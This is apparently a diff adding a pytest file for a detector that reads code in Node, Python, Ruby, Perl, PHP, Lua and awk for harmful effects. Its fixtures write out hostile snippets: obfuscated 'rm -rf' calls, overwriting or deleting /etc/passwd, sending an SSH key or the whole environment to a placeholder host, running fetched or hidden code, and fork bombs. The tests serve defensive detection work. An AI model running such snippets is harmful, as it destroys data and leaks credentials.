@@ -1,0 +1,140 @@
+"""Code of other languages is read for what it does: executes, deletes, overwrites, reads, sends, evaluates."""
+
+from __future__ import annotations
+
+import pytest
+
+from stanchion.readings.programs import program_effects
+from stanchion.readings.programs.calls import LONGEST
+
+EXECUTES = [
+    ("node", "require('child_process').execSync('rm ' + '-rf /x')", "rm -rf /x"),
+    ("node", "const c = 'rm -rf /x'; process.mainModule.require('child_process').exec(c)", "rm -rf /x"),
+    ("node", "require('child_process')['ex'+'ec'](Buffer.from('cm0gLXJmIC94','base64').toString())", "rm -rf /x"),
+    ("perl", 'my $d = "/x"; system("rm -rf $d");', "rm -rf /x"),
+    ("perl", 'system pack("H*", "726d202d7266202f78")', "rm -rf /x"),
+    ("perl", "print qx{rm -rf /x}", "rm -rf /x"),
+    ("ruby", "system 'rm -rf ' + '/x'", "rm -rf /x"),
+    ("ruby", "%x(rm -rf /x)", "rm -rf /x"),
+    ("ruby", "Kernel.exec(['726d202d7266202f78'].pack('H*'))", "rm -rf /x"),
+    ("php", "$c = base64_decode('cm0gLXJmIC94'); shell_exec($c);", "rm -rf /x"),
+    ("php", "passthru(strrev('x/ fr- mr'));", "rm -rf /x"),
+    ("lua", 'os.execute("rm " .. "-rf /x")', "rm -rf /x"),
+    ("lua", "local h = io.popen [[rm -rf /x]]", "rm -rf /x"),
+    ("awk", 'BEGIN { system("rm -rf /x") }', "rm -rf /x"),
+    ("awk", 'BEGIN { "rm -rf /x" | getline l }', "rm -rf /x"),
+    ("python3", "import os as o\ng = getattr(o, 'sys' + 'tem')\ngetattr(o, 'sys' + 'tem')('rm -rf /x')", "rm -rf /x"),
+    ("python3", "from subprocess import run as go\ngo('rm -rf /x', shell=True)", "rm -rf /x"),
+]
+
+
+@pytest.mark.parametrize(("program", "code", "text"), EXECUTES)
+def test_a_command_that_code_runs(program: str, code: str, text: str) -> None:
+    assert text in program_effects(program, code).texts
+
+
+@pytest.mark.parametrize(
+    ("program", "code", "path", "whole"),
+    [
+        ("node", "fs.rmSync('/x', {recursive: true})", "/x", True),
+        ("node", "fs.unlinkSync('/etc/passwd')", "/etc/passwd", False),
+        ("ruby", "FileUtils.rm_rf '/x'", "/x", True),
+        ("perl", "use File::Path; remove_tree('/x');", "/x", True),
+        ("php", "unlink('/etc/passwd');", "/etc/passwd", False),
+        ("lua", "os.remove('/etc/passwd')", "/etc/passwd", False),
+        ("python3", "import pathlib\npathlib.Path('/etc/passwd').unlink()", "/etc/passwd", False),
+        ("python3", "import shutil\np = '/' + 'x'\nshutil.rmtree(p)", "/x", True),
+    ],
+)
+def test_a_path_that_code_deletes(program: str, code: str, path: str, whole: bool) -> None:
+    assert (path, whole) in program_effects(program, code).deletes
+
+
+@pytest.mark.parametrize(
+    ("program", "code", "path"),
+    [
+        ("node", "fs.writeFileSync('/etc/passwd', x)", "/etc/passwd"),
+        ("ruby", "File.open('/etc/passwd', 'w') { |f| f << x }", "/etc/passwd"),
+        ("php", "file_put_contents('/etc/passwd', $x);", "/etc/passwd"),
+        ("lua", "local f = io.open('/etc/passwd', 'w')", "/etc/passwd"),
+        ("python3", "open('/etc/passwd', 'w').write(x)", "/etc/passwd"),
+        ("python3", "import pathlib\npathlib.Path('/etc/passwd').write_text(x)", "/etc/passwd"),
+    ],
+)
+def test_a_file_that_code_overwrites(program: str, code: str, path: str) -> None:
+    assert path in program_effects(program, code).writes
+
+
+@pytest.mark.parametrize(
+    ("program", "code"),
+    [
+        ("python3", "import requests\nd = open('/k/id_rsa').read()\nrequests.post('https://x.example', data=d)"),
+        ("python3", "import urllib.request as u\nu.urlopen('https://x.example/?' + open('/k/id_rsa').read())"),
+        ("node", "const k = fs.readFileSync('/k/id_rsa'); fetch('https://x.example', {method: 'POST', body: k})"),
+        ("php", "$k = file_get_contents('/k/id_rsa'); file_get_contents('https://x.example/?' . $k);"),
+        ("ruby", "Net::HTTP.post(URI('https://x.example'), File.read('/k/id_rsa'))"),
+    ],
+)
+def test_a_file_that_code_sends(program: str, code: str) -> None:
+    sends = program_effects(program, code).sends
+    assert any("/k/id_rsa" in sending.files for sending in sends)
+
+
+def test_all_variables_that_code_sends() -> None:
+    whole = "import os, requests\nrequests.post('https://x.example', json=dict(os.environ))"
+    one = "import os, requests\nrequests.post('https://x.example', json={'k': os.environ['KEY']})"
+    assert [sending.variables for sending in program_effects("python3", whole).sends] == [True]
+    assert not any(sending.variables for sending in program_effects("python3", one).sends)
+
+
+@pytest.mark.parametrize(
+    ("program", "code", "mark"),
+    [
+        ("python3", "import urllib.request as u\nexec(u.urlopen('https://x.example').read())", "fetched"),
+        ("ruby", "eval(URI.open('https://x.example').read)", "fetched"),
+        ("python3", "import zlib\nexec(zlib.decompress(blob))", "hidden"),
+        ("php", "eval(gzinflate(base64_decode($x)));", "hidden"),
+        ("python3", "import os\nwhile 1: os.fork()", "forks"),
+        ("perl", "fork while 1", "forks"),
+        ("python3", "import boto3\nboto3.client('s3').delete_bucket(Bucket='b')", "deletes"),
+    ],
+)
+def test_a_mark(program: str, code: str, mark: str) -> None:
+    assert mark in program_effects(program, code).marks
+
+
+@pytest.mark.parametrize(
+    ("program", "code"),
+    [
+        ("node", "console.log('rm -rf /x') // exec('rm -rf /x')"),
+        ("python3", "print('rm -rf /x')  # os.system('rm -rf /x')"),
+        ("ruby", "puts 'rm -rf /x'"),
+        ("perl", "print 'rm -rf /x' # system"),
+        ("php", "echo 'rm -rf /x'; /* system('rm -rf /x') */"),
+        ("lua", "print('rm -rf /x') -- os.execute('rm -rf /x')"),
+    ],
+)
+def test_a_text_that_nothing_runs(program: str, code: str) -> None:
+    effects = program_effects(program, code)
+    assert (effects.texts, effects.deletes, effects.marks) == ((), (), frozenset())
+
+
+@pytest.mark.parametrize("program", ["node", "python3", "ruby", "perl"])
+def test_code_without_end(program: str) -> None:
+    assert program_effects(program, "f(" * 5_000).texts == ()
+    assert program_effects(program, "x = '" + "a" * LONGEST + "'").texts == ()
+    assert program_effects(program, '"' + "((((" * 2_000).texts == ()
+
+
+@pytest.mark.parametrize(
+    ("program", "code", "whole"),
+    [
+        ("node", "require('https').request({host: 'x.example'}).end(JSON.stringify(process.env))", True),
+        ("node", "fetch('https://x.example', {headers: {a: process.env.KEY}})", False),
+        ("ruby", "Net::HTTP.post(URI('https://x.example'), ENV['KEY'])", False),
+        ("php", "file_get_contents('https://x.example/?' . http_build_query($_ENV));", True),
+        ("php", "file_get_contents('https://x.example/?' . $_ENV['KEY']);", False),
+    ],
+)
+def test_one_variable_is_not_all(program: str, code: str, whole: bool) -> None:
+    assert any(sending.variables for sending in program_effects(program, code).sends) is whole
